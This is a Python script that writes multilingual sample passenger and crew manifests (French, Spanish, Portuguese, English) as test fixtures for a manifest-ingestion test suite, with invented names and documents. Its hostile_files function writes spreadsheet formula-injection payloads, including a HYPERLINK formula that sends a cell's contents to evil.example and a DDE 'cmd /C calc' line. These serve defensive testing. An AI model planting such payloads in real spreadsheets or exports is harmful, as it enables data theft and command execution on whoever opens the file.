"""Write the manifest samples that tests/targeting/ingestion/test_tabular.py reads.

Run from the repository root: `.venv/bin/python tests/data/manifests/make_samples.py`. The
files are committed; run this again only to change them. Names, documents and flights are
invented.
"""

from __future__ import annotations

import random
from datetime import date, datetime, time
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
# Fixed workbook properties, so that re-running the script changes no byte it need not.
CREATED = datetime(2025, 3, 1, 12, 0)


def save(workbook: Workbook, name: str) -> None:
    workbook.properties.creator = "AIRCOP test samples"
    workbook.properties.created = CREATED
    workbook.properties.modified = CREATED
    workbook.save(HERE / name)


def write_text(name: str, lines: list[str], *, encoding: str, bom: bool = False) -> None:
    text = "\r\n".join(lines) + "\r\n"
    data = text.encode(encoding)
    (HERE / name).write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)


def french_xlsx() -> None:
    """ASKY KP051 Lomé -> Dakar, a title above the header, typed dates and times."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Passagers"
    sheet["A1"] = "MANIFESTE PASSAGERS - KP051 LFW-DSS"
    sheet.append([])
    sheet.append(
        [
            "N°",
            "Nom",
            "Prénom(s)",
            "Sexe",
            "Date de naissance",
            "Nationalité",
            "N° passeport",
            "Date d'expiration",
            "Siège",
            "Vol",
            "Provenance",
            "Destination",
            "Date du vol",
            "Heure de départ",
        ]
    )
    flight = ["KP051", "LFW", "DSS", date(2025, 3, 14), time(8, 30)]
    sheet.append(
        [
            1,
            "Mensah",
            "Kossi Édouard",
            "Masculin",
            date(1988, 2, 14),
            "TGO",
            "B1234567",
            date(2030, 5, 31),
            "12A",
            *flight,
        ]
    )
    sheet.append(
        [
            2,
            "N'Diaye",
            "Aïssatou",
            "Féminin",
            "03/11/1990",
            "SN",
            "A00987654",
            "31/12/2029",
            "12B",
            *flight,
        ]
    )
    # A birth date typed as an Excel serial number (32185 = 1988-02-12), a two-letter country.
    sheet.append(
        [3, "Traoré", "Moussa", "H", 32185, "ML", "ML445566", date(2027, 1, 15), "14C", *flight]
    )
    sheet.append([])  # a blank row in the middle: skipped, row numbers kept
    sheet.append(
        [4, "Kouassi", "Adjoua", "F", "14FEB88", "CIV", "CI0099887", "2031-08-01", "14D", *flight]
    )
    save(workbook, "fr_manifest.xlsx")


FRENCH_CSV_HEADER = (
    "N°,Nom,Prénom(s),Sexe,Date de naissance,Nationalité,N° passeport,Date d'expiration,Siège"
)


def french_csv() -> None:
    """No flight column: the officer gives the flight. UTF-8 with BOM, as Excel saves it."""
    write_text(
        "fr_manifest.csv",
        [
            FRENCH_CSV_HEADER,
            "1,MENSAH,Kossi Édouard,Masculin,14/02/1988,TGO,B1234567,31/05/2030,12A",
            '2,"N\'DIAYE",Aïssatou,Féminin,03/11/1990,SEN,A00987654,31/12/2029,12B',
            "3,Traoré,Moussa,Homme,12.02.1988,MLI,ML445566,15-01-2027,14C",
            "4,Kouassi,Adjoua,Femme,14FEB88,CIV,CI0099887,01/08/2031,14D",
        ],
        encoding="utf-8",
        bom=True,
    )


def spanish_csv() -> None:
    """Avianca AV010 Bogotá -> Madrid, ';' separators, Latin-1 as older systems export."""
    write_text(
        "es_manifest.csv",
        [
            "Apellidos;Nombre(s);Sexo;Fecha de nacimiento;Nacionalidad;Número de pasaporte;"
            "Fecha de vencimiento;Asiento;Vuelo;Origen;Destino;Fecha",
            "Muñoz Peña;José Ángel;Masculino;21/07/1979;COL;AO123456;10/10/2028;23F;AV010;"
            "BOG;MAD;14/03/2025",
            "Gómez, hija;María José;Mujer;05/01/2001;CO;PE778899;02/02/2030;23E;AV010;"
            "BOG;MAD;14/03/2025",
            "Ibáñez;Nuria;Femenino;1965-12-30;ESP;XDB112233;2026-06-01;24A;AV010;BOG;MAD;"
            "14/03/2025",
        ],
        encoding="latin-1",
    )


def portuguese_xlsx() -> None:
    """TAP TP1541 Lisboa -> Luanda crew list, Portuguese columns."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Tripulação"
    sheet.append(
        [
            "Sobrenome",
            "Nome",
            "Sexo",
            "Data de nascimento",
            "Nacionalidade",
            "Número do passaporte",
            "Validade",
            "Categoria",
            "Voo",
            "Origem",
            "Destino",
            "Data do voo",
        ]
    )
    flight = ["TP 1541", "LIS", "LAD", datetime(2025, 3, 14, 22, 40)]
    sheet.append(
        [
            "Conceição",
            "João",
            "Masculino",
            date(1975, 4, 25),
            "PRT",
            "CB123456",
            date(2029, 9, 9),
            "Tripulante",
            *flight,
        ]
    )
    sheet.append(
        [
            "Gonçalves",
            "Inês",
            "Feminino",
            date(1990, 10, 1),
            "BR",
            "FZ987654",
            date(2028, 3, 3),
            "Tripulante",
            *flight,
        ]
    )
    save(workbook, "pt_manifest.xlsx")


def english_csv() -> None:
    """A 'Full name' column in airline style, with Cyrillic and Arabic names."""
    write_text(
        "en_fullname.csv",
        [
            "Full name,Gender,DOB,Nationality,Passport number,Flight,From,To,Departure date",
            "DOE/JOHN MR,M,880214,USA,123456789,ET 908,ADD,LFW,2025-03-14 10:15",
            '"NDIAYE, Aminata",F,1992-06-30,SEN,A1122334,ET 908,ADD,LFW,2025-03-14 10:15',
            "Иванов/Иван,Male,1970-01-02,RUS,7512345678,ET 908,ADD,LFW,2025-03-14 10:15",
            "محمد/علي,Female,1985-05-05,EGY,A09876543,ET 908,ADD,LFW,2025-03-14 10:15",
            "Smith John,M,1966-06-06,GBR,533112233,ET 908,ADD,LFW,2025-03-14 10:15",
        ],
        encoding="utf-8",
    )


def bad_values_csv() -> None:
    """Values that cannot be read, one kind per row; row 5 has no name."""
    write_text(
        "bad_values.csv",
        [
            "Surname,Given names,Sex,Date of birth,Nationality,Seat",
            "OKAFOR,Chinedu,M,31/02/1988,NGA,3A",
            "BALDE,Fatoumata,Q,1990-05-05,GIN,3B",
            "DIALLO,Mamadou,M,yesterday,Guinean,3C",
            ",,F,1980-01-01,SEN,4A",
            "SOW,Awa,F,01/01/2090,SEN,seat four",
        ],
        encoding="utf-8",
    )


def hostile_files() -> None:
    """Formula injection, an overlong cell and control characters, in CSV and XLSX."""
    long_name = "A" * 5000
    write_text(
        "hostile.csv",
        [
            "Surname,Given names,Date of birth,Nationality",
            '"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",Eve,1990-01-01,FRA',
            "+cmd|' /C calc'!A0,Mallory,1990-01-02,FRA",
            "@SUM(1+1),Trent,1990-01-03,FRA",
            f"{long_name},Long,1990-01-04,FRA",
            "DUPONT\x07\u202eTNOPUD,Jean\tPierre,1990-01-05,FRA",
            "MARTIN,-2+3,1990-01-06,FRA",
        ],
        encoding="utf-8",
    )
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Nom", "Prénom", "Date de naissance"])
    # openpyxl stores a string starting with "=" as a formula cell: a real formula in the file.
    sheet.append(['=HYPERLINK("http://evil.example","click")', "Eve", date(1990, 1, 1)])
    sheet.append(["MARTIN", "=1+1", date(1990, 1, 6)])
    save(workbook, "hostile.xlsx")


def not_manifests() -> None:
    """Files people attach by mistake."""
    # The 8-byte PNG signature and an IHDR chunk header are enough to be recognised.
    (HERE / "not_a_manifest.png").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    )
    noise = random.Random(3)  # reproducible noise, not a secret
    (HERE / "random.bin").write_bytes(bytes(noise.randrange(256) for _ in range(2048)))
    (HERE / "empty.csv").write_bytes(b"")
    write_text(
        "no_name.csv",
        ["Seat,Date of birth,Nationality", "12A,1988-02-14,SEN", "12B,1990-11-03,MLI"],
        encoding="utf-8",
    )
    # An OLE2 compound file header: what Excel 97-2003 (.xls) files start with.
    (HERE / "legacy.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    empty = Workbook()
    save(empty, "empty.xlsx")


def main() -> None:
    french_xlsx()
    french_csv()
    spanish_csv()
    portuguese_xlsx()
    english_csv()
    bad_values_csv()
    hostile_files()
    not_manifests()


if __name__ == "__main__":
    main()
